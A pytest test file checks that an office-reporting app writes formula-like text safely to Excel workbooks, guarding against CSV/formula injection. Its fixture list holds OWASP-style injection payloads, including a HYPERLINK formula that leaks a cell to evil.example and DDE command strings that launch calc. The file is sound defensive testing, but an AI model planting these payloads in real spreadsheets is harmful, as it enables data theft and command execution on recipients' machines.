"""Spreadsheet-safe text: every text cell the app writes is text in Excel, never a formula, and
characters Excel forbids are dropped instead of failing the whole workbook (OWASP, "CSV
Injection"). Through the office workbook and through the user's own commands."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from diagnosis.office.figures import MemberRow, OfficeFilter
from diagnosis.office.ports import EnterpriseRow, MeasureRow, VisitRow
from diagnosis.office.service import OfficeService
from diagnosis.office.workbook import build_workbook
from diagnosis.register import credit_code
from diagnosis.sheet_cells import MAX_CELL_CHARS, clean, csv_field, set_text
from tests.diagnosis.test_office import FakeRepo
from tests.main_process import run_main

REPO_ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
# The inputs OWASP lists, each as a whole cell.
HOSTILE = [
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+1",
]
CONTROL = "甲\x00\x01\x08\x0b\x0c\x0e\x1f公司"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_field_leads_a_formula_like_text_with_an_apostrophe(text: str) -> None:
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["宁波银行", "'quoted", "a=b", "1-2", 12, 3.5, None])
def test_csv_field_leaves_other_values_alone(value: object) -> None:
    assert csv_field(value) == value


def test_clean_drops_what_excel_forbids_and_keeps_tab_and_line_breaks() -> None:
    assert clean(CONTROL) == "甲公司"
    assert clean("a\tb\nc\rd") == "a\tb\nc\rd"
    assert clean("x\ud800y\ufffe") == "xy"  # a lone surrogate comes through JSON
    assert len(clean("长" * (MAX_CELL_CHARS + 5))) == MAX_CELL_CHARS


@pytest.mark.parametrize("text", [*HOSTILE, "#N/A", "#REF!"])
def test_set_text_makes_a_string_cell(text: str) -> None:
    ws = Workbook().active
    assert ws is not None
    cell = ws["A1"]

    set_text(cell, text)

    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))


class HostileRepo(FakeRepo):
    """The fake office store with every free text replaced by a hostile one."""

    def enterprise_rows(self, f: OfficeFilter) -> list[EnterpriseRow]:
        first = super().enterprise_rows(f)[0]
        texts = [*HOSTILE, CONTROL]
        return [first._replace(id=f"e{n}", name=t) for n, t in enumerate(texts)]

    def visit_rows(self, f: OfficeFilter) -> list[VisitRow]:
        first = super().visit_rows(f)[0]
        return [first._replace(enterprise_name=HYPERLINK, team=("=1+1", "@a"))]

    def measure_rows(self, f: OfficeFilter) -> list[MeasureRow]:
        first = super().measure_rows(f)[0]
        return [first._replace(enterprise_name="-2+3", code=None, title="=cmd|' /C calc'!A0")]

    def members(self, f: OfficeFilter) -> list[MemberRow]:
        return [MemberRow("@SUM(1+1)*cmd", 4, 3, 1, 3), MemberRow(CONTROL, 2, 1, 1, 1)]


def _sheet_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}


def assert_no_formula(data: bytes) -> None:
    """No formula in the file itself, and none as openpyxl reads it back."""
    for name, xml in _sheet_xml(data).items():
        assert re.search(r"<f[ >/]", xml) is None, name
    book = load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def _column(data: bytes, sheet: str, col: int) -> list[object]:
    ws = load_workbook(io.BytesIO(data))[sheet]
    return [row[col] for row in ws.iter_rows(min_row=5, values_only=True)]


def test_office_workbook_writes_hostile_names_as_text() -> None:
    office = OfficeService(HostileRepo())
    data = build_workbook(office.figures(), office.data())

    assert_no_formula(data)
    # As written, but for the forbidden characters; XML reads a CR as a line feed.
    expected = [t.replace("\r", "\n") for t in HOSTILE] + ["甲公司"]
    assert _column(data, "企业 Enterprises", 0)[:-1] == expected
    assert _column(data, "走访 Visits", 1) == [HYPERLINK]
    assert _column(data, "走访 Visits", 8) == ["=1+1、@a"]
    assert _column(data, "措施 Measures", 3)[0] == "=cmd|' /C calc'!A0"
    assert _column(data, "人员 Team", 0) == ["@SUM(1+1)*cmd", "甲公司"]


def test_office_workbook_marks_formula_like_text_with_quote_prefix() -> None:
    office = OfficeService(HostileRepo())
    ws = load_workbook(io.BytesIO(build_workbook(office.figures(), office.data())))[
        "企业 Enterprises"
    ]
    names = [row[0] for row in ws.iter_rows(min_row=5, max_row=4 + len(HOSTILE))]
    assert all(c.quotePrefix and c.data_type == "s" for c in names)


def test_office_workbook_numbers_stay_numbers() -> None:
    office = OfficeService(HostileRepo())
    data = build_workbook(office.figures(), office.data())

    visits = _column(data, "企业 Enterprises", 7)
    assert all(isinstance(v, int) for v in visits)
    ws = load_workbook(io.BytesIO(data))["人员 Team"]
    assert [c.data_type for c in ws[5][1:]] == ["n"] * 4


def test_office_workbook_writes_a_non_finite_number_as_text() -> None:
    class Infinite(HostileRepo):
        def measure_rows(self, f: OfficeFilter) -> list[MeasureRow]:
            return [super().measure_rows(f)[0]._replace(tce=float("inf"))]

    office = OfficeService(Infinite())
    data = build_workbook(office.figures(), office.data())

    assert "inf" in _column(data, "措施 Measures", 10)


_run = run_main


def test_formula_names_from_a_register_reach_stats_xlsx_as_text(tmp_path: Path) -> None:
    """The user's way: a district's .xlsx with formula-like names, import-enterprises, then
    stats --xlsx, as real processes."""
    names = [n for n in HOSTILE if not n.startswith(("\t", "\r"))]  # import trims white space
    register = Workbook()
    ws = register.active
    assert ws is not None
    ws.append(["企业名称", "统一社会信用代码", "区县（市）"])
    for n, name in enumerate(names):
        ws.append([None, credit_code.complete(f"91330200MA2{n:06d}"), "鄞州区"])
        cell = ws.cell(row=n + 2, column=1)
        cell.value, cell.data_type = name, "s"  # typed text, as a district's clerk would
    register_path = tmp_path / "名单.xlsx"
    register.save(register_path)
    db, out = tmp_path / "store.sqlite", tmp_path / "out.xlsx"

    imported = _run("import-enterprises", str(register_path), "--db", str(db), "--json")
    stats = _run("stats", "--db", str(db), "--xlsx", str(out))

    assert imported.returncode == 0, imported.stdout + imported.stderr
    assert stats.returncode == 0, stats.stderr
    assert "Traceback" not in stats.stderr
    data = out.read_bytes()
    assert_no_formula(data)
    assert sorted(str(v) for v in _column(data, "企业 Enterprises", 0)[:-1]) == sorted(names)
